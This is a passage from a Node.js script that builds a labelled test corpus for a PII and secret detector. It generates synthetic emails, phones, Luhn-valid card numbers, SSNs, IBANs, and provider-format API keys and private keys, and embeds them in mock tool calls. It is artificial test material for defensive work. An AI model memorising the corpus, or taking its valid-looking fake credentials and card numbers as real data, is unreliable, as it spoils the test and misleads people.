#!/usr/bin/env node
// test/content-safety/build-corpus.mjs — writes the labelled content-safety corpus (corpus/*.jsonl).
//
// `node test/content-safety/build-corpus.mjs` rewrites every corpus file; the output depends only on this script
// (one seeded PRNG, no clock, no environment), so running it twice gives the same bytes. The corpus is data: the
// scorer reads the .jsonl files, never this script. Labelling rules: README.md beside this file.
//
// How labels are made: a template puts `L(type, value)` where a labelled value goes (or `N(type, number)` for a JSON
// number). L returns a private-use sentinel; `resolve` walks the finished arguments, swaps each sentinel for its
// value and records the label with the RFC 6901 pointer of the string (or member name) that holds it. Paths and
// offsets are therefore never typed by hand. `check` then re-reads every label the way the scorer does and refuses
// to write a corpus whose labels do not resolve, whose cards fail Luhn, whose IBANs fail mod-97, or whose
// prefixed secrets would be placeholders by the rules of shared/src/content-safety/placeholder.ts.
//
// Secret values are synthetic: every random part of a prefixed secret is one short random unit repeated
// (`Q7mZ2kQ7mZ2k…`), syntactically valid for the provider's format, obviously not a live credential, and not a
// placeholder by Warden's rules. No value is copied from anywhere.
import { mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'

const OUT = join(dirname(fileURLToPath(import.meta.url)), 'corpus')

// ---------------------------------------------------------------------------------------------------------------
// Seeded randomness

function mulberry32(seed) {
  let a = seed >>> 0
  return () => {
    a = (a + 0x6d2b79f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}
const rng = mulberry32(0x5afe_c0de)
const int = (lo, hi) => lo + Math.floor(rng() * (hi - lo + 1))
const pick = (list) => list[Math.floor(rng() * list.length)]
const chance = (p) => rng() < p
const digits = (n) => Array.from({ length: n }, () => String(int(0, 9))).join('')
const nzDigits = (n) => String(int(1, 9)) + digits(n - 1)
const randStr = (alphabet, n) => Array.from({ length: n }, () => alphabet[int(0, alphabet.length - 1)]).join('')
const pad = (n, width) => String(n).padStart(width, '0')
const cap = (s) => s.charAt(0).toUpperCase() + s.slice(1)

const UPPER = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'
const LOWER = 'abcdefghijklmnopqrstuvwxyz'
const DIGITS = '0123456789'
const ALNUM = UPPER + LOWER + DIGITS
const UPPER_DIGITS = UPPER + DIGITS
const HEX = '0123456789abcdef'
const B32 = UPPER + '234567'
const B64 = ALNUM + '+/'
const B64URL = ALNUM + '-_'

// ---------------------------------------------------------------------------------------------------------------
// Placeholder rules, copied from shared/src/content-safety/placeholder.ts: no synthetic secret may be one.

const LONG_WORDS = /example|placeholder|redacted|sample|changeme/i
const SHORT_WORDS = /(?:^|[-_])(?:your|fake|dummy|insert|replace|token|key|here|secret)(?:[-_]|$)/i
function isPlaceholder(body) {
  const compact = body.replace(/[-_]/g, '').toLowerCase()
  const first = compact[0]
  if (first === undefined || compact === first.repeat(compact.length)) return true
  return /x{6}/i.test(body) || LONG_WORDS.test(body) || SHORT_WORDS.test(body)
}

/** A unit of `unitLen` characters from `alphabet`, with letters and digits where the alphabet has both, repeated to `n`. */
function periodic(alphabet, n, unitLen) {
  for (;;) {
    const unit = randStr(alphabet, unitLen)
    const distinct = new Set(unit).size
    const needsDigit = /\d/.test(alphabet) && /[A-Za-z]/.test(alphabet)
    if (distinct < Math.min(unitLen, 4)) continue
    if (needsDigit && !(/\d/.test(unit) && /[A-Za-z]/.test(unit))) continue
    if (/^[-_]|[-_]$|[-_]{2}/.test(unit)) continue
    const body = unit.repeat(Math.ceil(n / unitLen)).slice(0, n)
    if (isPlaceholder(body)) continue
    return body
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Labels: sentinels resolved into { type, path, value } after a template has built its arguments.

const pending = new Map()
let sentinelSeq = 0
const SENTINEL = /\uE000(\d+)\uE001/g
/** A labelled value inside a string. `extra.group` ties the fragments of one split value together. */
function L(type, value, extra = {}) {
  const id = sentinelSeq++
  pending.set(id, { type, value: String(value), ...extra })
  return `\uE000${id}\uE001`
}
/** A labelled JSON number (the whole number is the value). */
function N(type, number) {
  return { __label: L(type, String(number)), __number: number }
}

function escapeToken(token) {
  return token.replaceAll('~', '~0').replaceAll('/', '~1')
}

function resolveString(text, path, inKey, labels) {
  let out = ''
  let last = 0
  for (const match of text.matchAll(SENTINEL)) {
    out += text.slice(last, match.index)
    const label = pending.get(Number(match[1]))
    if (label === undefined) throw new Error(`unknown sentinel in ${path}`)
    pending.delete(Number(match[1]))
    const entry = { type: label.type, path, value: label.value }
    if (inKey) entry.inKey = true
    if (label.group !== undefined) entry.group = label.group
    labels.push({ entry, start: out.length })
    out += label.value
    last = match.index + match[0].length
  }
  return out + text.slice(last)
}

function resolve(value, path, labels) {
  if (typeof value === 'string') return resolveString(value, path, false, labels)
  if (Array.isArray(value)) return value.map((item, index) => resolve(item, `${path}/${index}`, labels))
  if (value !== null && typeof value === 'object') {
    if ('__number' in value) {
      resolveString(value.__label, path, false, labels)
      return value.__number
    }
    const out = {}
    for (const [rawKey, member] of Object.entries(value)) {
      const keyLabels = []
      const key = resolveString(rawKey, '', true, keyLabels)
      const memberPath = `${path}/${escapeToken(key)}`
      for (const label of keyLabels) labels.push({ entry: { ...label.entry, path: memberPath }, start: label.start })
      if (key in out) throw new Error(`duplicate member ${memberPath}`)
      out[key] = resolve(member, memberPath, labels)
    }
    return out
  }
  return value
}

// ---------------------------------------------------------------------------------------------------------------
// Validators used by the self-check (and by the generators)

function luhnCheckDigit(partial) {
  let sum = 0
  for (let i = 0; i < partial.length; i += 1) {
    let d = Number(partial[partial.length - 1 - i])
    if (i % 2 === 0) {
      d *= 2
      if (d > 9) d -= 9
    }
    sum += d
  }
  return String((10 - (sum % 10)) % 10)
}
const luhnValid = (number) => luhnCheckDigit(number.slice(0, -1)) === number.slice(-1)

function ibanMod97(iban) {
  const rearranged = iban.slice(4) + iban.slice(0, 4)
  let remainder = 0
  for (const char of rearranged) {
    const chunk = /[A-Z]/.test(char) ? String(char.charCodeAt(0) - 55) : char
    for (const d of chunk) remainder = (remainder * 10 + Number(d)) % 97
  }
  return remainder
}
const ibanValid = (iban) => ibanMod97(iban) === 1

// ---------------------------------------------------------------------------------------------------------------
// Value generators

const FIRST = ['ada', 'grace', 'alan', 'linus', 'margaret', 'katherine', 'dennis', 'barbara', 'radia', 'frances', 'edsger', 'hedy', 'donald', 'guido', 'yukihiro', 'sofia', 'mateo', 'aisha', 'kwame', 'priya', 'chen', 'olga', 'lars', 'fatima', 'diego', 'mei', 'noah', 'amara', 'jonas', 'ines']
const LAST = ['lovelace', 'hopper', 'turing', 'torvalds', 'hamilton', 'johnson', 'ritchie', 'liskov', 'perlman', 'allen', 'dijkstra', 'lamarr', 'knuth', 'vanrossum', 'matsumoto', 'garcia', 'rossi', 'okafor', 'mensah', 'patel', 'wei', 'ivanova', 'nilsson', 'haddad', 'fernandez', 'tanaka', 'schmidt', 'adeyemi', 'lindqvist', 'moreau']
const DOMAINS = ['example.com', 'example.org', 'example.net', 'mail.example.co.uk', 'northwind-traders.com', 'globex-corp.io', 'initech.dev', 'contoso.com', 'fabrikam.net', 'acme-robotics.co', 'umbrella-health.org', 'ridgeview.edu', 'tailspin-toys.de', 'wingtip.fr', 'corp.test']
const COMPANIES = ['Northwind Traders', 'Globex', 'Initech', 'Contoso', 'Fabrikam', 'Acme Robotics', 'Umbrella Health', 'Tailspin Toys', 'Wingtip', 'Litware']

function person() {
  const first = pick(FIRST)
  const last = pick(LAST)
  return { first, last, name: `${cap(first)} ${cap(last)}` }
}
function email(p = person(), domain = pick(DOMAINS)) {
  const local = pick([
    () => `${p.first}.${p.last}`,
    () => `${p.first[0]}${p.last}`,
    () => `${p.first}_${p.last}`,
    () => `${p.first}${int(1, 99)}`,
    () => `${p.first}.${p.last}+${pick(['billing', 'news', 'github', 'invoices'])}`,
    () => `${cap(p.first)}.${cap(p.last)}`,
    () => p.first,
  ])()
  return `${local}@${domain}`
}
const roleEmail = (domain = pick(DOMAINS)) => `${pick(['support', 'billing', 'ops', 'security', 'hr', 'no-reply', 'sales'])}@${domain}`

const US_AREAS = ['212', '415', '646', '312', '206', '617', '303', '512', '202', '305', '213', '718']
function phone(style) {
  const s = style ?? pick(['us', 'us', 'us', 'uk', 'de', 'fr', 'in', 'au', 'br', 'jp', 'es', 'nl'])
  const area = pick(US_AREAS)
  const tail = pad(int(100, 199), 4).slice(-4).replace(/^0/, '0')
  switch (s) {
    case 'us':
      return pick([
        () => `(${area}) 555-${tail}`,
        () => `+1 ${area}-555-${tail}`,
        () => `${area}.555.${tail}`,
        () => `+1${area}555${tail}`,
        () => `${area}-555-${tail}`,
        () => `+1 (${area}) 555-${tail}`,
      ])()
    case 'uk':
      return pick([() => `+44 20 7946 0${digits(3)}`, () => `+44 7700 900${digits(3)}`, () => `020 7946 0${digits(3)}`, () => `07700 900${digits(3)}`])()
    case 'de':
      return pick([() => `+49 30 ${digits(8)}`, () => `+49 151 ${digits(8)}`, () => `030 ${digits(4)} ${digits(4)}`])()
    case 'fr':
      return pick([() => `+33 6 ${digits(2)} ${digits(2)} ${digits(2)} ${digits(2)}`, () => `01 ${digits(2)} ${digits(2)} ${digits(2)} ${digits(2)}`])()
    case 'in':
      return `+91 9${digits(4)} ${digits(5)}`
    case 'au':
      return pick([() => `+61 491 570 ${int(110, 159)}`, () => `0491 570 ${int(110, 159)}`])()
    case 'br':
      return `+55 11 9${digits(4)}-${digits(4)}`
    case 'jp':
      return pick([() => `+81 3-${digits(4)}-${digits(4)}`, () => `090-${digits(4)}-${digits(4)}`])()
    case 'es':
      return `+34 6${digits(2)} ${digits(3)} ${digits(3)}`
    case 'nl':
      return `+31 6 ${digits(8)}`
    default:
      throw new Error(s)
  }
}
const e164us = () => `+1${pick(US_AREAS)}555${pad(int(100, 199), 4)}`

const CARD_BRANDS = {
  visa: () => ['4', 16],
  mastercard: () => [String(int(51, 55)), 16],
  mastercard2: () => [String(int(2221, 2720)), 16],
  amex: () => [pick(['34', '37']), 15],
  discover: () => [pick(['6011', '65', String(int(644, 649))]), 16],
  jcb: () => [String(int(3528, 3589)), 16],
  diners: () => [pick(['36', '38', '300', '305']), 14],
  unionpay: () => ['62' + String(int(2126, 2925)), 16],
  maestro: () => [pick(['6759', '5018', '5020', '6304']), pick([16, 18, 19])],
}
function cardNumber(brand = pick(['visa', 'visa', 'visa', 'mastercard', 'mastercard', 'mastercard2', 'amex', 'discover', 'jcb', 'diners'])) {
  const [prefix, length] = CARD_BRANDS[brand]()
  const partial = prefix + digits(length - prefix.length - 1)
  return partial + luhnCheckDigit(partial)
}
function formatCard(number, style = pick(['plain', 'space', 'space', 'dash'])) {
  if (style === 'plain') return number
  const sep = style === 'space' ? ' ' : '-'
  if (number.length === 15) return [number.slice(0, 4), number.slice(4, 10), number.slice(10)].join(sep)
  if (number.length === 14) return [number.slice(0, 4), number.slice(4, 10), number.slice(10)].join(sep)
  return number.match(/.{1,4}/g).join(sep)
}
function luhnInvalid(number) {
  const last = Number(number.slice(-1))
  return number.slice(0, -1) + String((last + int(1, 9)) % 10)
}

function ssnParts() {
  let area
  do area = int(1, 899)
  while (area === 666)
  return [pad(area, 3), pad(int(1, 99), 2), pad(int(1, 9999), 4)]
}
const ssn = (sep = '-') => ssnParts().join(sep)

const IBAN_SPECS = {
  DE: ['n8', 'n10'],
  GB: ['b4', 'n6', 'n8'],
  FR: ['n5', 'n5', 'n11', 'n2'],
  ES: ['n4', 'n4', 'n2', 'n10'],
  IT: ['a1', 'n5', 'n5', 'n12'],
  NL: ['b4', 'n10'],
  BE: ['n3', 'n7', 'n2'],
  CH: ['n5', 'n12'],
  AT: ['n5', 'n11'],
  PL: ['n8', 'n16'],
  SE: ['n3', 'n17'],
  IE: ['b4', 'n6', 'n8'],
  PT: ['n4', 'n4', 'n11', 'n2'],
  DK: ['n4', 'n10'],
  NO: ['n4', 'n6', 'n1'],
  FI: ['n3', 'n11'],
}
const BANK_CODES = { GB: ['NWBK', 'BARC', 'LOYD', 'HBUK', 'MIDL'], NL: ['ABNA', 'INGB', 'RABO', 'TRIO'], IE: ['AIBK', 'BOFI'] }
function iban(country = pick(Object.keys(IBAN_SPECS))) {
  const bban = IBAN_SPECS[country]
    .map((part) => {
      const n = Number(part.slice(1))
      if (part[0] === 'n') return digits(n)
      if (part[0] === 'b') return pick(BANK_CODES[country])
      return randStr(UPPER, n)
    })
    .join('')
  const check = 98 - ibanMod97(`${country}00${bban}`)
  return `${country}${pad(check, 2)}${bban}`
}
const formatIban = (value, spaced = chance(0.5)) => (spaced ? value.match(/.{1,4}/g).join(' ') : value)
function ibanBadChecksum(country) {
  const good = iban(country)
  const check = Number(good.slice(2, 4))
  const bad = pad(((check - 2 + int(1, 96)) % 97) + 2, 2)
  return good.slice(0, 2) + (bad === good.slice(2, 4) ? pad((check % 97) + 3, 2) : bad) + good.slice(4)
}

function ipv4(kind = pick(['private10', 'private192', 'private172', 'doc', 'doc', 'public'])) {
  switch (kind) {
    case 'private10':
      return `10.${int(0, 255)}.${int(0, 255)}.${int(2, 254)}`
    case 'private192':
      return `192.168.${int(0, 20)}.${int(2, 254)}`
    case 'private172':
      return `172.${int(16, 31)}.${int(0, 255)}.${int(2, 254)}`
    case 'doc':
      return `${pick(['192.0.2', '198.51.100', '203.0.113'])}.${int(2, 254)}`
    default:
      return `${pick([23, 34, 52, 81, 84, 91, 104, 145, 151, 185, 212])}.${int(0, 255)}.${int(0, 255)}.${int(2, 254)}`
  }
}
function ipv6() {
  const h = () => randStr(HEX, int(1, 4)).replace(/^0+(?=.)/, '')
  return pick([
    () => `2001:db8:${h()}:${h()}::${h()}`,
    () => `2001:db8::${h()}:${h()}`,
    () => `fe80::${h()}:${h()}:${h()}:${h()}`,
    () => `2a02:${h()}:${h()}:${h()}:${h()}:${h()}:${h()}:${h()}`,
    () => `2606:4700:${h()}::${h()}`,
  ])()
}

const passport = () => (chance(0.3) ? `${pick(['A', 'B', 'C', 'E'])}${digits(8)}` : nzDigits(9))

// Synthetic secrets ------------------------------------------------------------------------------------------
const awsAccessKey = (prefix = chance(0.75) ? 'AKIA' : 'ASIA') => prefix + periodic(B32, 16, 4)
const awsSecretKey = () => periodic(B64, 40, 8)
function githubToken(kind = pick(['ghp', 'ghp', 'ghp', 'gho', 'ghu', 'ghs', 'ghr', 'pat', 'pat'])) {
  if (kind === 'pat') return `github_pat_11${periodic(UPPER_DIGITS, 20, 10)}_${periodic(ALNUM, 59, 9)}`
  return `${kind}_${periodic(ALNUM, 36, 6)}`
}
function slackToken(kind = pick(['xoxb', 'xoxb', 'xoxp', 'xoxa', 'xoxr', 'xoxs'])) {
  if (kind === 'xoxp') return `xoxp-${nzDigits(11)}-${nzDigits(11)}-${nzDigits(13)}-${periodic(HEX, 32, 8)}`
  if (kind === 'xapp') return `xapp-1-A0${periodic(UPPER_DIGITS, 9, 9)}-${nzDigits(13)}-${periodic(HEX, 64, 8)}`
  return `${kind}-${nzDigits(11)}-${nzDigits(13)}-${periodic(ALNUM, 24, 8)}`
}
const slackWebhook = () =>
  `https://hooks.slack.com/services/T0${periodic(UPPER_DIGITS, 8, 8)}/B0${periodic(UPPER_DIGITS, int(8, 9), int(8, 9))}/${periodic(ALNUM, 24, 6)}`
function stripeKey(prefix = pick(['sk_live_', 'sk_live_', 'sk_test_', 'rk_live_', 'rk_test_'])) {
  return chance(0.6) ? `${prefix}51${periodic(ALNUM, 97, 11)}` : `${prefix}${periodic(ALNUM, 24, 8)}`
}
const gcpApiKey = () => `AIzaSy${periodic(B64URL, 33, 11)}`
function openaiKey(kind = pick(['proj', 'proj', 'proj', 'svcacct', 'admin', 'legacy'])) {
  if (kind === 'legacy') return `sk-${periodic(ALNUM, 48, 12)}`
  return `sk-${kind}-${periodic(B64URL, kind === 'proj' ? 156 : 100, 13)}`
}
const anthropicKey = (kind = pick(['api03', 'api03', 'api03', 'admin01'])) => `sk-ant-${kind}-${periodic(B64URL, 93, 11)}AA`
const npmToken = () => `npm_${periodic(ALNUM, 36, 6)}`

const b64url = (text) => Buffer.from(text).toString('base64url')
function jwt(alg = pick(['HS256', 'HS256', 'RS256', 'ES256'])) {
  const header = JSON.stringify(alg === 'RS256' ? { alg, kid: `k${digits(4)}`, typ: 'JWT' } : { alg, typ: 'JWT' })
  const iat = 1717000000 + int(0, 9000000)
  const payload = JSON.stringify(
    pick([
      () => ({ sub: `user_${digits(6)}`, iat, exp: iat + 3600 }),
      () => ({ iss: 'https://auth.northwind-traders.com/', sub: `auth0|${randStr(HEX, 24)}`, aud: 'api://orders', iat, exp: iat + 86400, scope: 'orders:read orders:write' }),
      () => ({ sub: String(int(1000, 99999)), role: pick(['admin', 'member', 'service']), tenant: pick(COMPANIES).toLowerCase().replace(/ /g, '-'), iat }),
      () => ({ session: randStr(HEX, 16), uid: int(1, 999999), iat, exp: iat + 900 }),
    ])(),
  )
  const sigLength = alg === 'RS256' ? 342 : alg === 'ES256' ? 86 : 43
  return `${b64url(header)}.${b64url(payload)}.${periodic(B64URL, sigLength, int(9, 14))}`
}
function unsecuredJwt() {
  return `${b64url(JSON.stringify({ alg: 'none', typ: 'JWT' }))}.${b64url(JSON.stringify({ sub: `svc-${digits(4)}`, iat: 1718000000 + int(0, 999999) }))}.`
}

const PEM_KINDS = {
  rsa: { label: 'RSA PRIVATE KEY', start: 'MIIEowIBAAKCAQEA', lines: 25 },
  pkcs8: { label: 'PRIVATE KEY', start: 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ', lines: 26 },
  ec: { label: 'EC PRIVATE KEY', start: 'MHcCAQEEI', lines: 3 },
  openssh: { label: 'OPENSSH PRIVATE KEY', start: 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW', lines: 5 },
  encrypted: { label: 'ENCRYPTED PRIVATE KEY', start: 'MIIFHDBOBgkqhkiG9w0BBQ0wQTApBgkqhkiG9w0BBQwwHAQI', lines: 27 },
  dsa: { label: 'DSA PRIVATE KEY', start: 'MIIBuwIBAAKBgQ', lines: 9 },
}
function pemBody(start, lines) {
  const body = start + periodic(B64, lines * 64 - start.length - 4, int(11, 17))
  const rows = body.match(/.{1,64}/g)
  rows[rows.length - 1] = rows[rows.length - 1] + '=='
  return rows
}
function privateKey(kind = pick(['rsa', 'rsa', 'pkcs8', 'pkcs8', 'ec', 'openssh', 'openssh', 'encrypted'])) {
  const spec = PEM_KINDS[kind]
  const rows = pemBody(spec.start, spec.lines)
  return `-----BEGIN ${spec.label}-----\n${rows.join('\n')}\n-----END ${spec.label}-----`
}
function rsaWithHeaders() {
  const rows = pemBody('MIIEpQIBAAKCAQEA', 25)
  return `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,${randStr('0123456789ABCDEF', 32)}\n\n${rows.join('\n')}\n-----END RSA PRIVATE KEY-----`
}
function pgpPrivateKey() {
  const rows = pemBody('lQOYBGYx', 12)
  return `-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n${rows.join('\n')}\n=${periodic(B64, 4, 4)}\n-----END PGP PRIVATE KEY BLOCK-----`
}
const escapeNewlines = (text) => text.replaceAll('\n', '\\n')

function password() {
  const words = ['Plum', 'Harbor', 'Copper', 'Falcon', 'Maple', 'Quartz', 'River', 'Stone', 'Velvet', 'Orbit', 'Cedar', 'Lantern', 'Mosaic', 'Tundra', 'Violet', 'Walrus']
  return pick([
    () => `${pick(words)}-${pick(words)}-${int(10, 99)}${pick(['!', '#', '$', '%', '&', '*'])}`,
    () => `${pick(words)}${pick(words).toLowerCase()}${int(100, 999)}${pick(['!', '?', '#'])}`,
    () => randStr(ALNUM + '!#%&*+=?', int(14, 22)),
    () => `${randStr(ALNUM, 6)}${pick(['!', '#', '%'])}${randStr(ALNUM, 7)}`,
  ])()
}
const urlSafePassword = () => pick([() => randStr(ALNUM, int(12, 20)), () => `${pick(['Tundra', 'Orbit', 'Cedar', 'Mosaic'])}${int(1000, 9999)}${randStr(ALNUM, 5)}`])()
const opaqueToken = () => pick([() => randStr(HEX, 32), () => randStr(HEX, 40), () => randStr(B64URL, 43), () => randStr(ALNUM, 32)])()

// Non-sensitive look-alikes --------------------------------------------------------------------------------------
const uuid = () => {
  const h = randStr(HEX, 32)
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${pick(['8', '9', 'a', 'b'])}${h.slice(17, 20)}-${h.slice(20, 32)}`
}
const gitSha = () => randStr(HEX, 40)
const sha256 = () => randStr(HEX, 64)
const isoTime = () => `2024-${pad(int(1, 12), 2)}-${pad(int(1, 28), 2)}T${pad(int(0, 23), 2)}:${pad(int(0, 59), 2)}:${pad(int(0, 59), 2)}.${pad(int(0, 999), 3)}Z`
const epochMs = () => 1700000000000 + int(0, 30000000) * 1000 + int(0, 999)
const requestId = () => `req_${randStr(ALNUM, 14)}`
const reqUuid = () => uuid()

// ---------------------------------------------------------------------------------------------------------------
// Cases

const files = new Map()
const ids = new Set()
function add(file, id, tags, built) {
  if (ids.has(id)) throw new Error(`duplicate id ${id}`)
  ids.add(id)
  const { tool, args, note } = built
  const labels = []
  const resolved = resolve(args, '', labels)
  if (pending.size > 0) throw new Error(`${id}: ${pending.size} labels were built but not placed`)
  const extraTags = built.tags ?? []
  const record = { id, tool, args: resolved, expect: labels.map((label) => label.entry), tags: [...new Set([...tags, ...extraTags])] }
  if (note !== undefined) record.note = note
  record.__starts = labels.map((label) => label.start)
  if (!files.has(file)) files.set(file, [])
  files.get(file).push(record)
}

/** Runs `count` instances of a type's templates in turn, each with fresh values. */
function generate(file, prefix, kindTag, templates, count) {
  for (let i = 0; i < count; i += 1) {
    const template = templates[i % templates.length]
    add(file, `${prefix}-${pad(i + 1, 3)}`, [kindTag], template())
  }
}

// ---------------------------------------------------------------------------------------------------------------
// PII positives

const EMAIL_TEMPLATES = [
  () => {
    const p = person()
    return {
      tool: 'send_email',
      tags: ['send_email'],
      args: {
        to: L('EMAIL', email(p)),
        cc: [L('EMAIL', email())],
        subject: `Invoice INV-${digits(6)} for ${pick(COMPANIES)}`,
        body: `Hi ${cap(p.first)},\n\nPlease find attached the invoice for May. Payment is due within 30 days.\n\nBest,\nAccounts`,
      },
    }
  },
  () => ({
    tool: 'create_issue',
    tags: ['create_issue', 'stack-trace'],
    args: {
      repo: 'northwind/billing-api',
      title: 'UserNotFoundError when resending the invite',
      body: `Steps: resend the invite from the admin page.\n\n\`\`\`\nUserNotFoundError: no active user with email ${L('EMAIL', email())}\n    at UserRepo.findByEmail (src/users/repo.ts:88:11)\n    at async InviteService.resend (src/invites/service.ts:41:18)\n\`\`\`\nrequest id ${reqUuid()}`,
      labels: ['bug', 'p2'],
    },
  }),
  () => ({
    tool: 'query',
    tags: ['sql'],
    args: { sql: `SELECT id, plan, created_at FROM customers WHERE email = '${L('EMAIL', email())}' LIMIT 1;`, database: 'analytics' },
  }),
  () => ({
    tool: 'crm_update_contact',
    tags: ['crm'],
    args: { record_id: `003${randStr(ALNUM, 15)}`, fields: { Email: L('EMAIL', email()), Company: pick(COMPANIES), LeadSource: 'Webinar' } },
  }),
  () => {
    const e = email()
    return { tool: 'slack_post_message', tags: ['chat'], args: { channel: 'C04QH7Z2M1K', text: `can someone from CS reach out to <mailto:${L('EMAIL', e)}|${L('EMAIL', e)}> about the renewal?` } }
  },
  () => {
    const p = person()
    return {
      tool: 'write_file',
      tags: ['write_file', 'config', 'code-sample'],
      args: {
        path: 'package.json',
        content: `{\n  "name": "@northwind/ui-kit",\n  "version": "3.2.0",\n  "author": "${p.name} <${L('EMAIL', email(p, 'example.com'))}>",\n  "license": "MIT"\n}\n`,
      },
    }
  },
  () => ({ tool: 'run_shell', tags: ['shell'], args: { command: `git -c user.name="Release Bot" -c user.email=${L('EMAIL', roleEmail())} commit -am "chore: release 2.4.1"` } }),
  () => ({
    tool: 'calendar_create_event',
    tags: ['calendar'],
    args: { title: 'Quarterly review', start: isoTime(), attendees: [{ email: L('EMAIL', email()) }, { email: L('EMAIL', email()), optional: true }] },
  }),
  () => ({
    tool: 'analyze_logs',
    tags: ['log'],
    args: { text: `${isoTime()} INFO auth.login succeeded user=${L('EMAIL', email())} ip=${L('IP_ADDRESS', ipv4())} session=${randStr(HEX, 16)}` },
  }),
  () => {
    const p = person()
    return {
      tool: 'http_request',
      tags: ['http'],
      args: {
        method: 'POST',
        url: 'https://api.northwind-traders.com/v2/users',
        headers: { 'Content-Type': 'application/json', 'Idempotency-Key': uuid() },
        body: JSON.stringify({ name: p.name, email: `\uE100` }).replace('\uE100', L('EMAIL', email(p))),
      },
    }
  },
  () => ({ tool: 'crm_bulk_update', tags: ['crm', 'member-name'], args: { updates: { [L('EMAIL', email())]: { status: 'churned', reason: 'pricing' } } } }),
  () => ({
    tool: 'write_file',
    tags: ['write_file', 'code', 'code-sample'],
    args: { path: 'test/signup.test.ts', content: `it('rejects a taken address', async () => {\n  await signUp({ email: '${L('EMAIL', email(person(), 'example.com'))}' })\n  await expect(signUp({ email: 'x' })).rejects.toThrow()\n})\n` },
  }),
  () => ({ tool: 'gmail_search', tags: ['search'], args: { query: `from:${L('EMAIL', email())} has:attachment newer_than:30d invoice` } }),
  () => ({ tool: 'update_page', tags: ['docs'], args: { page_id: uuid(), markdown: `## Support\n\nQuestions? [Contact support](mailto:${L('EMAIL', roleEmail())}) or open a ticket.` } }),
]

const PHONE_TEMPLATES = [
  () => ({ tool: 'send_sms', tags: ['sms'], args: { to: L('PHONE', e164us()), body: `Your table for 4 is confirmed for ${pad(int(17, 21), 2)}:30. Reply C to cancel.` } }),
  () => ({ tool: 'crm_update_contact', tags: ['crm'], args: { record_id: `003${randStr(ALNUM, 15)}`, fields: { Phone: L('PHONE', phone('us')), Title: 'VP Engineering' } } }),
  () => {
    const p = person()
    return {
      tool: 'send_email',
      tags: ['send_email', 'signature'],
      args: { to: L('EMAIL', email()), subject: 'Re: onsite visit', body: `Thursday works for us.\n\n--\n${p.name}\nSolutions Architect, ${pick(COMPANIES)}\nMobile: ${L('PHONE', phone('uk'))}` },
    }
  },
  () => ({ tool: 'create_ticket', tags: ['ticket'], args: { subject: 'Callback requested', description: `Customer called from ${L('PHONE', phone('uk'))} about a late delivery, order ORD-${digits(8)}. Please call back before 5pm.` } }),
  () => ({
    tool: 'write_file',
    tags: ['write_file', 'vcard'],
    args: { path: 'contacts/lindqvist.vcf', content: `BEGIN:VCARD\nVERSION:4.0\nFN:Lars Lindqvist\nTEL;TYPE=cell:${L('PHONE', phone('de'))}\nEND:VCARD\n` },
  }),
  () => ({ tool: 'query', tags: ['sql'], args: { sql: `INSERT INTO contacts (name, phone, country) VALUES ('Ines Moreau', '${L('PHONE', phone('fr'))}', 'FR');` } }),
  () => ({ tool: 'crm_update_contact', tags: ['crm', 'number'], args: { record_id: `003${randStr(ALNUM, 15)}`, fields: { phone: N('PHONE', Number(`${pick(US_AREAS)}555${pad(int(100, 199), 4)}`)) } } }),
  () => ({ tool: 'whatsapp_send', tags: ['chat'], args: { to: L('PHONE', phone('in')), template: 'delivery_update', params: ['out for delivery'] } }),
  () => ({ tool: 'analyze_logs', tags: ['log'], args: { text: `${isoTime()} notify.sms queued to=${L('PHONE', e164us())} sid=SM${randStr(HEX, 32)} status=accepted` } }),
  () => ({
    tool: 'write_file',
    tags: ['write_file', 'csv'],
    args: { path: 'exports/leads.csv', content: `name,company,phone\nAisha Okafor,Globex,${L('PHONE', phone('us'))}\nMateo Garcia,Initech,${L('PHONE', phone('es'))}\n` },
  }),
  () => {
    const tail = int(110, 159)
    return { tool: 'update_page', tags: ['html'], args: { page_id: uuid(), html: `<p>Sydney office: <a href="tel:${L('PHONE', `+61491570${tail}`)}">${L('PHONE', `+61 491 570 ${tail}`)}</a></p>` } }
  },
  () => ({ tool: 'calendar_create_event', tags: ['calendar'], args: { title: 'Vendor call', description: `Dial in: ${L('PHONE', phone('jp'))}`, start: isoTime() } }),
  () => ({ tool: 'crm_update_contact', tags: ['crm'], args: { record_id: `003${randStr(ALNUM, 15)}`, fields: { MobilePhone: L('PHONE', phone('br')), MailingCountry: 'Brazil' } } }),
  () => ({ tool: 'crm_bulk_update', tags: ['crm', 'member-name'], args: { by_phone: { [L('PHONE', e164us())]: { opted_out: true } } } }),
  () => ({ tool: 'slack_post_message', tags: ['chat'], args: { channel: 'C01ONCALL', text: `paging: on-call for payments this week is Noah, reach him at ${L('PHONE', phone('us'))} if PagerDuty is down` } }),
  () => ({ tool: 'book_delivery', tags: ['form'], args: { recipient: { name: 'Mei Wei', phone: L('PHONE', phone(pick(['nl', 'au', 'de']))), address: '12 Harbour St' }, window: 'AM' } }),
]

const CARD_TEMPLATES = [
  () => ({
    tool: 'create_charge',
    tags: ['payment'],
    args: { amount: int(500, 99999), currency: 'usd', card: { number: L('CREDIT_CARD', formatCard(cardNumber('visa'), 'space')), exp_month: int(1, 12), exp_year: int(2026, 2031), cvc: digits(3) } },
  }),
  () => ({
    tool: 'send_email',
    tags: ['send_email'],
    args: { to: L('EMAIL', roleEmail()), subject: 'Charged twice', body: `Hello, my card ${L('CREDIT_CARD', formatCard(cardNumber('mastercard'), 'dash'))} was charged twice for order #${digits(7)}. Please refund one of them.` },
  }),
  () => ({ tool: 'crm_add_note', tags: ['crm'], args: { account_id: `001${randStr(ALNUM, 15)}`, note: `Customer read the card over the phone: ${L('CREDIT_CARD', formatCard(cardNumber(), 'space'))} exp ${pad(int(1, 12), 2)}/${int(26, 31)}` } }),
